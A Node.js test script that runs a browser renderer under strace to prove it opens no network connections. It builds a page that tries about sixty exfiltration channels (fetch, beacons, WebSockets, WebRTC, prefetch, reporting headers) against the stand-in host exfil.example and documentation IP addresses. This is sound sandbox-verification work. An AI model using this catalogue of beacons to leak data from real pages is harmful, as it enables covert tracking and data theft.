// node scripts/proofs/browser-network.mjs [--browser PATH | --electron] [--times N]
// Renders a page of https: and of http:, by turns, that tries some sixty ways to send something, under strace, and counts what the browser's processes did with sockets: a
// connect other than to a Unix socket, a bind to an address of a network (mDNS), or a datagram sent, is a failure. Needs strace. As root the browser runs without its sandbox, which
// changes nothing about its requests; run it as an ordinary user to have it sandboxed too.
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { chromiumStarter } from '../../electron/browser/chromium.ts';
import { electronStarter } from '../../electron/browser/electron-host.ts';
import { findBrowser } from '../../electron/browser/find-browser.ts';
import { openRenderer } from '../../electron/browser/renderer.ts';
import { ROOT } from '../run/bootstrap.mjs';
import { findElectron } from '../run/electron-path.mjs';

const { values } = parseArgs({
  options: { browser: { type: 'string' }, electron: { type: 'boolean' }, times: { type: 'string', default: '4' } },
});
if (spawnSync('strace', ['-V']).status !== 0) {
  console.error('This proof needs strace: apt-get install strace');
  process.exit(2);
}

/** Addresses that a network would reach: documentation ranges, this machine, names. */
const hosts = ['203.0.113.7', '127.0.0.1:18699', '[2001:db8::7]', 'exfil.example', 'localhost:18699'];
const url = (name, scheme = 'http') => `${scheme}://${hosts[name.length % hosts.length]}/${name}`;
const markup = `<!doctype html><html manifest="${url('appcache')}"><head><base href="${url('base')}">
<link rel=stylesheet href="${url('css')}"><link rel=preload as=script href="${url('preload')}"><link rel=modulepreload href="${url('modulepreload')}">
<link rel=prefetch href="${url('prefetch')}"><link rel=prerender href="${url('prerender')}"><link rel=next href="${url('next')}">
<link rel=preconnect href="${url('preconnect')}"><link rel=preconnect crossorigin href="https://exfil.example"><link rel=dns-prefetch href="//exfil.example">
<link rel=icon href="${url('icon')}"><link rel=manifest href="${url('manifest')}"><link rel=apple-touch-icon href="${url('touch')}"><link rel=search href="${url('search')}">
<link rel=compression-dictionary href="${url('dictionary')}"><link rel=expect href="#x"><meta http-equiv=x-dns-prefetch-control content=on>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url('spec')}"]}],"prerender":[{"source":"list","urls":["/spec2"]}]}</script>
<style>@import "${url('import')}"; @font-face{font-family:x;src:url(${url('font')})} body{font-family:x;background:url(${url('bg')});cursor:url(${url('cursor')}),auto;list-style-image:url(${url('list')})} p::before{content:url(${url('content')})}</style>
<script src="${url('script')}"></script><script type=module>import "${url('module')}"; import("${url('dynamic')}").catch(() => {})</script></head>
<body background="${url('bodybg')}"><p>x</p><img src="${url('img')}" srcset="${url('srcset')} 2x" lowsrc="${url('lowsrc')}"><picture><source srcset="${url('source')}"><img></picture>
<video src="${url('video')}" poster="${url('poster')}" autoplay></video><audio src="${url('audio')}" autoplay></audio><video><track default src="${url('track')}"></video>
<iframe src="${url('frame')}"></iframe><iframe srcdoc="<img src='${url('srcdoc')}'>"></iframe><object data="${url('object')}"></object><embed src="${url('embed')}">
<svg><image href="${url('svg')}"/><use href="${url('use')}"/><filter><feImage href="${url('feimage')}"/></filter></svg><input type=image src="${url('input')}">
<table background="${url('table')}"><td>x</table><form id=f method=post action="${url('form')}" target=sink></form><iframe name=sink></iframe>
<a id=a href="${url('linked')}" ping="${url('ping')}" target=sink>x</a><a id=d download href="${url('download')}">d</a><script>
const attempt = f => { try { const r = f(); if (r && r.catch) r.catch(() => {}); } catch {} };
const u = ${JSON.stringify(hosts)}.map(h => 'http://' + h + '/js'), s = ${JSON.stringify(hosts)};
for (const x of u) { attempt(() => fetch(x)); attempt(() => fetch(x, { method: 'POST', body: 'x', keepalive: true })); attempt(() => navigator.sendBeacon(x, 'x'));
  attempt(() => { const r = new XMLHttpRequest(); r.open('PUT', x); r.send('x'); }); attempt(() => new EventSource(x)); attempt(() => { new Image().src = x; });
  attempt(() => new Worker(URL.createObjectURL(new Blob(['fetch("' + x + '"); importScripts("' + x + '")'])))); attempt(() => new SharedWorker(x));
  attempt(() => window.open(x)); attempt(() => fetchLater(x)); attempt(() => navigator.serviceWorker.register('/sw.js')); }
for (const C of [window.RTCPeerConnection, window.webkitRTCPeerConnection, window.SharedWorker, window.WebTransport]) { const own = C && C.prototype.constructor;
  attempt(() => { const p = new own({ iceServers: [{ urls: 'stun:203.0.113.7' }] }); p.createDataChannel('x'); return p.createOffer().then(o => p.setLocalDescription(o)); });
  attempt(() => new own('https://203.0.113.7/own')); }
for (const h of s) { attempt(() => new WebSocket('ws://' + h)); attempt(() => new WebSocket('wss://' + h)); attempt(() => new WebTransport('https://' + h));
  for (const iceServers of [[{ urls: 'stun:' + h }], [{ urls: 'turn:' + h + '?transport=tcp', username: 'a', credential: 'b' }]])
    attempt(() => { const p = new RTCPeerConnection({ iceServers }); p.createDataChannel('x'); return p.createOffer().then(o => p.setLocalDescription(o)); }); }
attempt(() => { const f = document.createElement('iframe'); document.body.append(f); const P = f.contentWindow.RTCPeerConnection; const p = new P({ iceServers: [{ urls: 'stun:203.0.113.7' }] }); p.createDataChannel('x'); return p.createOffer().then(o => p.setLocalDescription(o)); });
attempt(() => f.submit()); attempt(() => a.click());
attempt(() => CSS.paintWorklet.addModule('${url('paint')}')); attempt(() => new AudioContext().audioWorklet.addModule('${url('worklet')}'));
attempt(() => new PresentationRequest('${url('presentation')}').start()); attempt(() => new PaymentRequest([{ supportedMethods: 'https://exfil.example/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment());
attempt(() => navigator.credentials.get({ identity: { providers: [{ configURL: 'https://exfil.example/fedcm', clientId: 'x' }] } })); attempt(() => caches.open('x').then(c => c.add('${url('cache')}')));
attempt(() => navigator.joinAdInterestGroup({ owner: 'https://exfil.example', name: 'x', lifetimeMs: 1e6, biddingLogicURL: 'https://exfil.example/b' }, 1e6));
attempt(() => { const r = new ReportingObserver(() => {}); r.observe(); }); attempt(() => document.requestStorageAccess()); attempt(() => navigator.registerProtocolHandler('web+x', location.origin + '/%s'));
</script></body></html>`;

const moves = `<script>document.getElementById("d").click(); setTimeout(() => { location.href = 'mailto:x@exfil.example'; }, 100); setTimeout(() => { location.href = '${url('moved')}'; }, 400);</script>`;

const folder = mkdtempSync(join(tmpdir(), 'browser-network-'));
const traces = join(folder, 'trace');
const program = values.electron ? findElectron()?.path : findBrowser(values.browser ?? null);
if (!program) throw new Error('There is no Electron on this machine; `npm test` fetches one.');
const traced = join(folder, 'browser');
writeFileSync(
  traced,
  `#!/bin/sh\nexec strace -ff -qq -yy -e trace=bind,connect,sendto,sendmsg,sendmmsg -o '${traces}' '${program}' "$@"\n`,
);
chmodSync(traced, 0o755);
const unsandboxed = process.getuid?.() === 0;
const start = values.electron
  ? electronStarter({ program: traced, app: ROOT, unsandboxed })
  : chromiumStarter({ browser: traced, unsandboxed });

const asked = new Set();
const kinds = {};
const refused = new Set();
const moved = new Set();
const renderer = await openRenderer(start);
console.log(`${renderer.name}, traced, ${values.times} times`);
for (let i = 0; i < Number(values.times); i++) {
  const outcome = await renderer.render(
    {
      // In a page of http: the browser has fewer interfaces, and tries https: for what it requests.
      url: `${i % 2 === 0 ? 'https' : 'http'}://exfil.example/page`,
      response: {
        status: 200,
        headers: [
          ['Content-Type', 'text/html'],
          ['Link', '<https://203.0.113.7>; rel=preconnect'],
          ['Report-To', '{"group":"x","max_age":9,"endpoints":[{"url":"https://exfil.example/r"}]}'],
          ['NEL', '{"report_to":"x","max_age":9}'],
          ['Alt-Svc', 'h3="203.0.113.7:443"'],
        ],
        body: Buffer.from(i < 2 ? markup : markup + moves),
      },
      device: 'desktop',
      locale: 'en-GB',
      wait: { kind: 'fixed', ms: Math.min(300 + i * 1_000, 4_300) },
      limits: {
        pageMs: 8_000,
        wallMs: 15_000,
        lifeMs: 60_000,
        memoryBytes: 2 ** 31,
        requests: 500,
        answerBytes: 1e7,
        htmlBytes: 1e7,
      },
      screenshots: true,
      userAgent: 'Examplebot/1.0',
    },
    async request => {
      asked.add(request.url);
      return { kind: 'failed', detail: 'no network' };
    },
    new AbortController().signal,
  );
  if (outcome.movedTo) moved.add(outcome.movedTo);
  for (const what of outcome.refused) refused.add(what);
  kinds[outcome.kind === 'rendered' ? 'rendered' : outcome.cause] =
    (kinds[outcome.kind === 'rendered' ? 'rendered' : outcome.cause] ?? 0) + 1;
}
await renderer.close();

let unix = 0;
let routes = 0;
/** To Unix sockets and to the kernel itself (netlink). */
let binds = 0;
const bad = [];
/** Chromium asks the kernel whether it has a route for IPv6: it connects a datagram socket, which sends nothing. Nothing is sent on it later. */
const isRouteQuestion = line => /^connect\(\d+<UDPv6:/.test(line) && line.includes('"2001:4860:4860::8888"');
for (const name of readdirSync(folder).filter(one => one.startsWith('trace.'))) {
  for (const line of readFileSync(join(folder, name), 'utf8').split('\n')) {
    if (/^connect\(.*sa_family=AF_UNIX/.test(line)) unix += 1;
    else if (isRouteQuestion(line)) routes += 1;
    else if (/^bind\(/.test(line) && !/sa_family=AF_INET|<(?:TCP|UDP|RAW|PING)/.test(line)) binds += 1;
    else if (/^bind\(|^connect\(|^send(?:to|msg|mmsg)\(\d+<(?:TCP|UDP|RAW|PING)|sa_family=AF_INET/.test(line))
      bad.push(`${name}: ${line}`);
  }
}
rmSync(folder, { recursive: true, force: true });
console.log(`outcomes ${JSON.stringify(kinds)}; ${asked.size} addresses asked of the engine; moved to ${[...moved].join(', ')}`);
console.log(`refused: ${[...refused].sort().join(', ')}`);
console.log(
  `connects to Unix sockets: ${unix}; questions to the kernel for a route, which send nothing: ${routes}; binds to nothing of a network: ${binds}`,
);
for (const line of bad) console.log(line.slice(0, 300));
// A page that ended early did not try all ways out.
const early = Object.entries(kinds).filter(([kind]) => kind !== 'rendered' && kind !== 'left');
for (const [kind, times] of early)
  console.log(`${times} of ${values.times} times the page ended with ${kind}, before it had tried all`);
const isPassed = bad.length === 0 && early.length === 0;
console.log(
  isPassed
    ? 'passed: no connection, nothing sent'
    : `FAILED: ${bad.length} system calls towards a network, ${early.length} early ends`,
);
process.exitCode = isPassed ? 0 : 1;
